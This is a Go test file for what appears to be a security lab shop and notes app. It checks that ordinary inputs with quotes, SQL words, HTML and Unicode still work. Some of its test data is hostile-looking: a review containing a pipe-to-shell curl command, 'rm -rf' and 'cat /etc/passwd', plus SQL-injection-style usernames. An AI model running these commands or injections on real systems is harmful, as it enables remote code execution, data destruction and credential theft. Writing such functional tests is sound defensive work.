package canon_test

import (
	"encoding/base64"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/fumehood/fumehood/canon"
)

// visitsShop uses each page of the shop as it was meant, with what people really type: names
// with apostrophes, quotes, semicolons, words of SQL, prices in per cent.
func visitsShop(t *testing.T, s *canon.Scene) {
	reads(t, s)
	asksTheStaff(t, s)
	buys(t, s)
	reviews(t, s)
	ships(t, s)
}

// expect fails where a page says no, or something else.
func expect(t *testing.T, s *canon.Scene, client *http.Client, r *http.Request, status int, want string) canon.Answer {
	t.Helper()
	answer := s.Try(client, r)
	if answer.Status != status || !strings.Contains(answer.Text, want) {
		t.Errorf("%s %s: %d, want %d and %q in\n%.600s", r.Method, r.URL, answer.Status, status, want, answer.Text)
	}
	return answer
}

func reads(t *testing.T, s *canon.Scene) {
	client := s.Client()
	for _, page := range []struct {
		path, want string
		fields     []string
	}{
		{"/", "Liebig", nil}, {"/", "Liebig", []string{"sort", "price"}}, {"/", "Liebig", []string{"sort", "price DESC"}},
		{"/", "Liebig", []string{"sort", "stock asc"}}, {"/", "Liebig", []string{"sort", "products.name desc"}},
		{"/search", "Beaker, 250", []string{"q", "beaker"}}, {"/search", "Burette", []string{"q", "tap of PTFE that never"}},
		{"/search", "Erlenmeyer", []string{"q", "flask, 500 ml"}}, {"/search", "spelt", []string{"q", `a 2" tube; or a 3" one -- with a tap`}},
		{"/search", "spelt", []string{"q", "select the union of all flasks where glass = clear"}},
		{"/search", "Pipette", []string{"q", "Please do not"}}, {"/search", "spelt", []string{"q", "/* 50 % off? */ #1 & more (really)"}},
		{"/search", "spelt", []string{"q", "1=1"}}, {"/search", "spelt", []string{"q", "fümé 火 🔥 {a} [b] <3"}},
		{"/product", "Burette", []string{"id", "3"}}, {"/compare", "Liebig", []string{"ids", "1,6"}}, {"/compare", "Liebig", []string{"ids", "1, 2, 6"}},
		{"/reviews", "really does not stick", []string{"author", "Miles O'Brien"}}, {"/reviews", "Nothing yet", []string{"author", "D'Arcy's \"cat\"; --"}},
		{"/coupon", "welcome  5", []string{"code", " WelCome "}}, {"/coupon", "half-life  50", []string{"code", "HALF-LIFE"}},
		{"/track", "120.4", []string{"order", base64.RawURLEncoding.EncodeToString([]byte("2026-0001"))}},
		{"/old", "4.2", []string{"name", "Beaker%2C%20250%20ml"}}, {"/suggest", "Beaker", []string{"q", "\uff22\uff45\uff41"}},
		{"/report", "2026-10  92.8", []string{"months", "2026-09|2026-10|2026-11"}},
		{"/hello", "Zoë &amp; D'Arcy", []string{"name", "Zoë &amp; D'Arcy"}}, {"/label", "HCl, 1 mol/l; keep < 25 °C", []string{"text", "HCl, 1 mol/l; keep < 25 °C"}},
		{"/card", "Happy birthday, Mina! 50 % {really}", []string{"text", "Happy birthday, Mina! 50 % {really}"}},
		{"/receipt", "Thank you, friend. See you!", []string{"text", "Thank you, {name}. See you!"}},
		{"/raw", "a, b; c", []string{"text", "a, b; c"}},
		{"/manual", "THE BURETTE", []string{"name", "burette.txt"}}, {"/manual/text", "THE CONDENSER", []string{"name", "condenser.txt"}},
		{"/manual/find", "burette.txt", []string{"q", "tap"}}, {"/manual/find", "burette.txt", []string{"q", "the tip fill"}},
	} {
		values := url.Values{}
		for i := 0; i+1 < len(page.fields); i += 2 {
			values.Set(page.fields[i], page.fields[i+1])
		}
		expect(t, s, client, s.Request(http.MethodGet, page.path+"?"+values.Encode(), ""), http.StatusOK, page.want)
	}
	expect(t, s, client, s.Request(http.MethodGet, "/manual/archive?name=burette.txt&name=condenser.txt", ""), http.StatusOK, "THE CONDENSER")
	expect(t, s, client, s.Request(http.MethodGet, "/", "", "Cookie", "currency=GBP"), http.StatusOK, "£")
	expect(t, s, client, s.Request(http.MethodGet, "/go?to="+url.QueryEscape("/product?id=3"), ""), http.StatusFound, "/product?id=3")
}

func asksTheStaff(t *testing.T, s *canon.Scene) {
	client := s.Client()
	get := func(path, field, value, want string) {
		t.Helper()
		expect(t, s, client, s.Request(http.MethodGet, path+"?"+url.Values{field: {value}}.Encode(), ""), http.StatusOK, want)
	}
	for _, host := range []string{"localhost", "printer-2.lab.example", "192.0.2.20", "::1"} {
		get("/tools/ping", "host", host, "<h1>Ping</h1>")
	}
	get("/tools/calc", "sum", "462", "462")
	post := func(path, field, value, want string) {
		t.Helper()
		r := s.Request(http.MethodPost, path, url.Values{field: {value}}.Encode(), "Content-Type", "application/x-www-form-urlencoded")
		expect(t, s, client, r, http.StatusOK, want)
	}
	post("/tools/order", "xml", `<?xml version="1.0"?><order><item>B-250</item><!-- and --><item> &amp; "C-300"</item></order>`, `B-250 &amp; &#34;C-300&#34;`)
	post("/tools/prices", "list", "B-250: 4.20\nC-300: 27\n", "Prices")
}

func buys(t *testing.T, s *canon.Scene) {
	client := s.LoggedIn(s.Join())
	for range 2 {
		r := s.Request(http.MethodPost, "/basket", "product=B-250", "Content-Type", "application/x-www-form-urlencoded")
		expect(t, s, client, r, http.StatusOK, "B-250  ")
	}
	expect(t, s, client, s.Request(http.MethodGet, "/basket", ""), http.StatusOK, "B-250  2") // by way of the cookie
	expect(t, s, client, s.JSON(http.MethodPost, "/stock", `{"lines": [{"code": "B-250", "count": 120}, {"code": "C-300", "count": 18}]}`), http.StatusOK, `"done":2`)
	r := s.Request(http.MethodPost, "/account", url.Values{"address": {"5, rue de l'Église; 2e étage -- à gauche"}, "website": {"https://example.org/~mina?a=1&b=2#c"}}.Encode(),
		"Content-Type", "application/x-www-form-urlencoded")
	expect(t, s, client, r, http.StatusFound, "")
}

// reviews writes what people write: all of it is shown as it was.
func reviews(t *testing.T, s *canon.Scene) {
	client := s.LoggedIn(s.Join())
	for _, text := range []string{
		"It's good. \"Very\" good; I'd buy it again -- really! (And 100 % of my colleagues, too.)",
		`<p style="text-align: left;">Dear <strong>all</strong>, see <a href="https://example.org/?a=1&amp;b=2">this</a><img src="https://example.org/x.png" alt=""></p><ul><li>one</li></ul>`,
		"SELECT name FROM glass WHERE broken = 0; -- is how we find yours",
		"```python\nimport os\nos.system('ls ../..')\nprint(f\"{x!r} {{ y }} {% z %}\")\n```\n$ curl -s https://example.org/install.sh | sh; rm -rf /tmp/x && cat /etc/passwd",
		"火を見るより明らか · العربية · Ελληνικά · 👩‍🔬 · e\u0301",
	} {
		r := s.Request(http.MethodPost, "/review", url.Values{"product": {"5"}, "text": {text}}.Encode(), "Content-Type", "application/x-www-form-urlencoded")
		expect(t, s, client, r, http.StatusFound, "")
		expect(t, s, client, s.Request(http.MethodGet, "/product?id=5", ""), http.StatusOK, text)
	}
}

func ships(t *testing.T, s *canon.Scene) {
	picture := samples(s)[0]
	expect(t, s, s.Client(), s.Parts("/photo", []canon.File{picture}), http.StatusOK, "Thank you!")
	expect(t, s, s.Client(), s.Request(http.MethodGet, "/photo", ""), http.StatusOK, ".png")
	for _, name := range []string{"private/salaries.csv", "manuals/burette.txt"} {
		if _, err := os.Stat(filepath.Join(s.Folder, name)); err != nil {
			t.Error(err) // the attacks are after it
		}
	}
}

// apostrophes: whoever has one in the name, or other letters that mean something to SQL, joins
// the notes app, logs in, writes and searches.
func apostrophes(s *canon.Scene) {
	for _, name := range []string{"Miles O'Brien", "D'Arcy; née \"Bell\" --", "Null", "Robert'); DROP TABLE students;--", "x' OR 'y", "1=1", "王小明", "100 % (really)"} {
		p := canon.Person{Name: name, Password: "it's a 'secret' -- /* really */"}
		answer := s.Post(s.Client(), "/register", url.Values{"username": {p.Name}, "password": {p.Password}, "email": {"o'brien+1@example.org"}})
		if answer.Status != http.StatusFound {
			s.Errorf("%q cannot join: %d\n%.300s", name, answer.Status, answer.Text)
			continue
		}
		client := s.LoggedIn(p)
		title := "It's " + name + "'s"
		answer = s.Post(client, "/notes/new", url.Values{"title": {title}, "body": {"SELECT 'a' || 'b'; -- \"x\"\n# it's {{ not }} a ${template}"}, "tag": {"to do"}})
		if answer.Status != http.StatusFound {
			s.Errorf("%q cannot write: %d\n%.300s", name, answer.Status, answer.Text)
		}
		if answer := s.Get(client, "/?sort=title&q="+url.QueryEscape(name+"'s")); answer.Status != http.StatusOK || strings.Contains(answer.Text, "Nothing found") {
			s.Errorf("%q cannot search: %d\n%.300s", name, answer.Status, answer.Text)
		}
		if got := s.Titles(p); len(got) != 1 || got[0] != title {
			s.Errorf("%q has the notes %q", name, got)
		}
	}
}
